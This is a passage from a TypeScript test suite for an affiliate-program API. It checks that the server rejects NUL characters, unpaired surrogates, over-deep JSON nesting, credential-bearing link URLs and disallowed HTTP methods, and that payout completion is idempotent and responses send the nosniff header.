    const own = await call('GET', `/api/v1/links?affiliateId=${partner.id}`, { headers: adminHeaders() });
    expect(own.body.data.map((l: { slug: string }) => l.slug)).toContain(real.slug);
  });

  it('NUL or a lone surrogate in stored text is a 400 naming the field, and nothing is written', async () => {
    const a = await approvedAffiliate(shop);
    const [commission] = await approvedSales(app, shop, a.code, 1, 10_000);
    const payout = await shop.admin.post('/api/v1/payouts', { affiliateId: a.id, method: 'check' });
    expect(payout.status).toBe(201);
    const cases: { path: string; method?: string; body: unknown; field: string; headers?: Record<string, string> }[] = [
      { path: '/api/v1/affiliates', body: { email: `n${fresh()}@partners.test`, name: 'Ann\u0000' }, field: 'name' },
      { path: '/api/v1/links', body: { affiliateId: a.id, campaign: 'spring\u0000sale' }, field: 'campaign' },
      { path: '/api/v1/links', body: { affiliateId: a.id, campaign: 'x\ud800' }, field: 'campaign' },
      {
        path: '/api/v1/conversions',
        body: { affiliateCode: a.code, amount: 1000, currency: 'usd', externalId: 'order-1\u0000' },
        field: 'externalId',
      },
      {
        path: '/api/v1/commission-rules',
        body: { name: 'VIP\u0000', type: 'percentage', rateBps: 500 },
        field: 'name',
      },
      {
        path: '/api/v1/commission-rules',
        body: { name: 'By product', type: 'percentage', rateBps: 500, stripeProductId: 'prod_\u0000' },
        field: 'stripeProductId',
      },
      { path: '/api/v1/program', method: 'PATCH', body: { name: 'Acme\u0000' }, field: 'name' },
      {
        path: '/api/v1/promotion-codes',
        body: { affiliateId: a.id, stripePromotionCodeId: `promo_n${fresh()}`, code: 'SAVE\u000010' },
        field: 'code',
      },
      { path: `/api/v1/payouts/${payout.body.payout.id}/fail`, body: { reason: 'closed\u0000' }, field: 'reason' },
      {
        path: `/api/v1/payouts/${payout.body.payout.id}/complete`,
        body: { reference: 'TXN\u0000' },
        field: 'reference',
      },
      { path: `/api/v1/commissions/${commission}/reject`, body: { reason: 'fraud\u0000' }, field: 'reason' },
      {
        path: `/api/v1/partner/programs/${shop.id}/apply`,
        body: { name: 'Blogger', email: `b${fresh()}@partners.test`, promotionMethod: 'My blog\u0000' },
        field: 'promotionMethod',
        headers: {},
      },
      {
        path: `/api/v1/partner/programs/${shop.id}/apply`,
        body: { name: 'Blog\u0000ger', email: `b${fresh()}@partners.test`, promotionMethod: 'My blog' },
        field: 'name',
        headers: {},
      },
      {
        path: '/api/v1/partner/links',
        body: { campaign: '\udc00summer' },
        field: 'campaign',
        headers: partnerHeaders(),
      },
    ];
    const before = await counts();
    const programBefore = (await shop.admin.get('/api/v1/program')).body.program;
    for (const c of cases) {
      const res = await call(c.method ?? 'POST', c.path, {
        body: JSON.stringify(c.body),
        headers: c.headers ?? adminHeaders(),
      });
      expectErrorShape(res, 400, 'invalid_request');
      expect(res.body.error.message, `${c.path} ${JSON.stringify(c.body)}`).toBe(
        `${c.field}: must not contain NUL or other control characters, or unpaired surrogates`,
      );
    }
    expect(await counts()).toEqual(before);
    expect((await shop.admin.get('/api/v1/program')).body.program).toEqual(programBefore);
    expect((await shop.admin.get(`/api/v1/payouts/${payout.body.payout.id}`)).body.payout.status).toBe('pending');
    expect((await shop.admin.get(`/api/v1/commissions/${commission}`)).body.commission.status).toBe('approved');
    // Text as people type it (accents, emoji, line breaks) is kept as is.
    const ok = await shop.admin.post('/api/v1/links', { affiliateId: a.id, campaign: 'Été 🌞\nsale' });
    expect(ok.status).toBe(201);
    expect(ok.body.link.campaign).toBe('Été 🌞\nsale');
  });

  it('a signed webhook nested 4,000 levels deep is 400 and stores nothing; a good event sent with it is processed', async () => {
    const deep = checkoutSession({ referral: real.referral, amountTotal: 700 });
    const deepText = JSON.stringify(deep).replace(
      /}$/,
      `,"deep":${'{"a":'.repeat(4_000)}"\\u0000"${'}'.repeat(4_000)}}`,
    );
    const goodReferral = await click(app, shop, partner.code);
    const good = checkoutSession({ referral: goodReferral, amountTotal: 1_234 });
    const goodText = JSON.stringify(good);
    const post = (text: string) =>
      call('POST', `/api/v1/webhooks/stripe/${shop.id}`, {
        body: text,
        headers: { 'stripe-signature': sign(text, shop.secret) },
      });
    const [bad, ok] = await Promise.all([post(deepText), post(goodText)]);
    expectErrorShape(bad, 400, 'invalid_event');
    expect(bad.body.error.message).toMatch(/deeper than 64 levels/);
    expect(ok).toMatchObject({ status: 200, body: { received: true, id: good.id, status: 'received' } });
    const stored = await app.db
      .selectFrom('stripe_events')
      .select('id')
      .where('id', 'in', [deep.id, good.id])
      .execute();
    expect(stored.map((r) => r.id)).toEqual([good.id]);
    // Every JSON body has the same limit.
    const nested = await call('POST', '/api/v1/links', {
      body: `{"affiliateId":"${partner.id}","campaign":${'['.repeat(65)}${']'.repeat(65)}}`,
      headers: adminHeaders(),
    });
    expectErrorShape(nested, 400, 'nesting_too_deep');
    await vi.waitFor(
      async () =>
        expect(
          await app.db.selectFrom('conversions').select('amount').where('referral_id', '=', goodReferral).execute(),
        ).toEqual([{ amount: 1_234 }]),
      { timeout: 10_000 },
    );

    // Within the limit, NUL characters (even 60 levels down) are stored cleaned, and the sale still counts.
    const nulReferral = await click(app, shop, partner.code);
    const nul = checkoutSession({ referral: nulReferral, amountTotal: 999 });
    const nulText = JSON.stringify(nul).replace(
      /}$/,
      `,"note":"a\\u0000b","deep":${'{"a\\u0000":'.repeat(60)}"\\ud800\\u0000"${'}'.repeat(60)}}`,
    );
    expect((await post(nulText)).status).toBe(200);
    await vi.waitFor(
      async () =>
        expect(
          await app.db.selectFrom('conversions').select('amount').where('referral_id', '=', nulReferral).execute(),
        ).toEqual([{ amount: 999 }]),
      { timeout: 10_000 },
    );
    const row = await app.db
      .selectFrom('stripe_events')
      .select('payload')
      .where('id', '=', nul.id)
      .executeTakeFirstOrThrow();
    const payload = row.payload as any;
    expect(payload.note).toBe('ab');
    let node = payload.deep;
    for (let i = 0; i < 60; i++) node = node.a;
    expect(node).toBe('\ufffd');
  });

  it('jsonbSafe cleans strings and keys at any depth without recursion', () => {
    const n = 200_000;
    const text = `${'{"k\\u0000":['.repeat(n)}"x\\u0000\\udc00y"${']}'.repeat(n)}`;
    expect(jsonbSafe(JSON.parse(text))).toBe(`${'{"k":['.repeat(n)}"x\ufffdy"${']}'.repeat(n)}`);
    expect(jsonbSafe({ a: [1, -0, 1e308, true, null, 'é'], b: {}, c: [] })).toBe(
      '{"a":[1,0,1e+308,true,null,"é"],"b":{},"c":[]}',
    );
  });

  it('a method a route does not take is a JSON 405 with its Allow header (found by fuzzing the console API)', async () => {
    const res = await call('DELETE', '/api/v1/console/team/', { headers: merchantHeaders() });
    expectErrorShape(res, 405, 'method_not_allowed');
    expect(res.headers.get('allow')).toMatch(/GET/);
    expectErrorShape(await call('PUT', '/api/v1/partner/login', { body: '{}' }), 405, 'method_not_allowed');
  });

  it('a link destination with a user name or password is refused (admin and partner), and not stored', async () => {
    const before = await counts();
    for (const url of ['https://user:pass@acme.test/', `${shop.website.replace('://', '://user@')}/landing`]) {
      const admin = await call('POST', '/api/v1/links', {
        body: JSON.stringify({ affiliateId: partner.id, destinationUrl: url }),
        headers: adminHeaders(),
      });
      expectErrorShape(admin, 400, 'invalid_request');
      expect(admin.body.error.message).toBe('destinationUrl: must not contain a user name or password');
      const own = await call('POST', '/api/v1/partner/links', {
        body: JSON.stringify({ destinationUrl: url }),
        headers: partnerHeaders(),
      });
      expectErrorShape(own, 400, 'invalid_request');
      expect(own.body.error.message).toBe('destinationUrl: must not contain a user name or password');
    }
    expect(await counts()).toEqual(before);
    const fine = await shop.admin.post('/api/v1/links', {
      affiliateId: partner.id,
      destinationUrl: `${shop.website}/pricing`,
    });
    expect(fine.status).toBe(201);
  });

  it('completing a completed payout again: same reference 200 (unchanged), another reference 409', async () => {
    const a = await approvedAffiliate(shop);
    await approvedSales(app, shop, a.code, 1, 20_000);
    const p = (await shop.admin.post('/api/v1/payouts', { affiliateId: a.id, method: 'check' })).body.payout;
    const done = await shop.admin.post(`/api/v1/payouts/${p.id}/complete`, { reference: 'CHK-1001' });
    expect(done.body.payout).toMatchObject({ status: 'completed', reference: 'CHK-1001' });
    const again = await shop.admin.post(`/api/v1/payouts/${p.id}/complete`, { reference: 'CHK-1001' });
    expect(again.status).toBe(200);
    expect(again.body.payout).toEqual(done.body.payout);
    const other = await shop.admin.post(`/api/v1/payouts/${p.id}/complete`, { reference: 'CHK-2002' });
    expect(other.status).toBe(409);
    expect(other.body.error.code).toBe('already_completed');
    expect(other.body.error.message).toContain('CHK-1001');
    expect((await shop.admin.get(`/api/v1/payouts/${p.id}`)).body.payout).toMatchObject({
      status: 'completed',
      reference: 'CHK-1001',
    });
  });

  it('every answer says X-Content-Type-Options: nosniff (JSON, errors, CSV, redirects, the snippet)', async () => {
    const answers = [
      await call('GET', '/api/v1/program', { headers: adminHeaders() }),
      await call('GET', '/api/v1/program'),
      await call('GET', '/api/v1/affiliates/aff_unknown', { headers: adminHeaders() }),
      await call('POST', '/api/v1/links', { body: '{', headers: adminHeaders() }),
      await call('GET', '/api/v1/no-such-route'),
      await call('GET', '/api/v1/openapi.json'),
      await call('GET', '/api/v1/payouts/export?format=wise', { headers: adminHeaders() }),
      await call('GET', `/r/${real.slug}`),
      await call('GET', '/pk.js'),
      await call('GET', '/partner/'),
    ];
    // The dashboard page is 200 once built (`npm run build`), 503 before.
    expect(answers.map((r) => r.status)).toEqual([200, 401, 404, 400, 404, 200, 200, 302, 200, expect.any(Number)]);
    for (const r of answers) expect(r.headers.get('x-content-type-options')).toBe('nosniff');
  });
});
